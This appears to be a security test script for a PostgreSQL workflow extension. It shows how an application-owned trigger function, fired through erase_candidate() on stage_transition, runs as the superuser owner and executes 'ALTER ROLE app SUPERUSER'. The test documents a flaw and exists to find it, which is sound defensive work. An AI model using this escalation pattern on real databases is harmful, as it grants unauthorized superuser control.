-- attack13 02: the same window as 01, as a privilege escalation.  A trigger on stage_transition
-- added by the DBA (additions script) whose function the application role owns: an erase_candidate()
-- by a tenant administrator fires it in step 3 as the tables' owner (a superuser here, as in the
-- sandbox and the README's install), and the application role's own code runs with those rights.
-- Nothing else the application can do updates stage_transition, so erase_candidate() is the one
-- path by which the application makes the owner run its code.
-- Expected: step 3 fires no user-definable code (README: "fixed, schema-qualified statements on the
--           extension's own tables that run no user-definable code"), or runs it as the caller.
-- Actual:   a13.audit() runs as postgres; its ALTER ROLE app SUPERUSER succeeds: rolsuper = t.
\set SHOW_CONTEXT never
SET client_min_messages = warning;
CREATE EXTENSION IF NOT EXISTS workflow_ext;
DO $$ BEGIN
  IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'workflow_app') THEN CREATE ROLE workflow_app NOLOGIN; END IF;
  IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'app') THEN CREATE ROLE app LOGIN; END IF;
END $$;
\i examples/app-grants.sql
GRANT workflow_app TO app;
RESET client_min_messages;
CREATE SCHEMA a13 AUTHORIZATION app;
CREATE TABLE a13.seen (who text, what text);
GRANT ALL ON a13.seen TO PUBLIC;
-- the application's function (owned by the application role, as its own code)
SET ROLE app;
CREATE FUNCTION a13.audit() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  INSERT INTO a13.seen VALUES (current_user, 'row ' || NEW.id);
  ALTER ROLE app SUPERUSER;
  RETURN NEW;
END $$;
RESET ROLE;
-- the additions script (DBA): an audit trigger on history
CREATE TRIGGER zz_audit AFTER UPDATE ON stage_transition FOR EACH ROW
  WHEN (pg_trigger_depth() < 2) EXECUTE FUNCTION a13.audit();

SET ROLE app;
BEGIN;
SET LOCAL workflow_ext.tenant = 'org:a';
SET LOCAL workflow_ext.actor = 'user:ann';
INSERT INTO workflow (name) VALUES ('W');
INSERT INTO workflow_stage (workflow_id, name, position, kind) VALUES
  (1,'Applied',1,'normal'),(1,'Screen',2,'normal'),(1,'Hired',3,'hired');
INSERT INTO stage_rule (stage_id, name, condition, on_fail)
  VALUES (2, 'portfolio', '{"field": "email", "op": "ends_with", "value": "@portfolio.example"}', 'warn');
SELECT assign_workflow(100, 1);
INSERT INTO candidate_profile (candidate_id, attributes) VALUES (5, '{"email": "jane@private.example"}');
SELECT add_candidate(5, 100);
SELECT to_stage_name, warnings->0->>'actual' AS actual FROM move_to_next_stage(5, 100);
COMMIT;

BEGIN;
SET LOCAL workflow_ext.tenant = 'org:a';
SET LOCAL workflow_ext.actor = 'user:admin';
SET LOCAL workflow_ext.tenant_admin = on;
SELECT * FROM erase_candidate(5);
COMMIT;
RESET ROLE;
SELECT * FROM a13.seen;                                   -- actual: postgres | row 2
SELECT id, to_status, reason, warnings FROM stage_transition WHERE candidate_id = 5 ORDER BY id;
SELECT rolsuper FROM pg_roles WHERE rolname = 'app';   -- expected f; actual t
